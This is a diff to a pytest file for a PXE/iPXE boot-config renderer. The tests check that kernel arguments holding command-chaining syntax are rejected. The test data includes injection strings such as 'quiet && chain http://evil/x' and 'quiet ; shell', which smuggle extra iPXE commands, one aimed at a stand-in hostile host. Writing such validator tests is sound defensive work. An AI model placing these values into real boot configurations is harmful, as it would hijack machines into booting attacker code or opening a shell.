@@ -15,7 +15,7 @@ import pytest
 from tcbuild import load_recipe
 from tcbuild.boot import ipxe
 from tcbuild.boot.pxelinux import Label, PxeConfig, parse
-from tcbuild.config.inventory import load_inventory
+from tcbuild.config.inventoryfile import load_inventory
 from tcbuild.errors import InputError
 from tcbuild.fleet.httptree import TreeServer
 from tcbuild.sources.fetch import FetchOptions
@@ -70,9 +70,20 @@ def test_the_entry_script_chains_to_the_hosts_twin_or_the_default() -> None:
 
 def test_what_ipxe_would_expand_or_tcbuild_did_not_write_is_refused() -> None:
     bad = PxeConfig("x", (Label("x", "k", "i", "root=${net0/ip}"),))
-    with pytest.raises(InputError, match=r"pxelinux.cfg/default: LABEL x: 'root=\$\{net0/ip\}' "
-                                         "cannot be written into an iPXE script"):
+    with pytest.raises(InputError, match=r"pxelinux.cfg/default: LABEL x: \"root=\$\{net0/ip\}\" "
+                                         "cannot be written into an iPXE script: '\\$\\{' would "
+                                         "be expanded by iPXE"):
         ipxe.render(bad, "default")
+    for append, problem in [("quiet && chain http://evil/x", "'&&' would chain a command"),
+                            ("quiet || shell", "'||' would chain a command"),
+                            ("quiet ; shell", "';' would chain a command"),
+                            ("quiet #rest", "'#rest' would start a comment"),
+                            ("quiet \\", "a trailing '\\' would join the next line")]:
+        with pytest.raises(InputError) as info:
+            ipxe.render(PxeConfig("x", (Label("x", "k", "i", append),)), "default")
+        assert f"cannot be written into an iPXE script: {problem}" in str(info.value)
+    assert "quiet a&&b x#y ;x :z" in ipxe.render(
+        PxeConfig("x", (Label("x", "k", "i", "quiet a&&b x#y ;x :z"),)), "default")
     with pytest.raises(InputError, match="f: not an iPXE script"):
         ipxe.parse("kernel x\n", "f")
     with pytest.raises(InputError, match="f:3: cannot read 'chain http://x/'"):
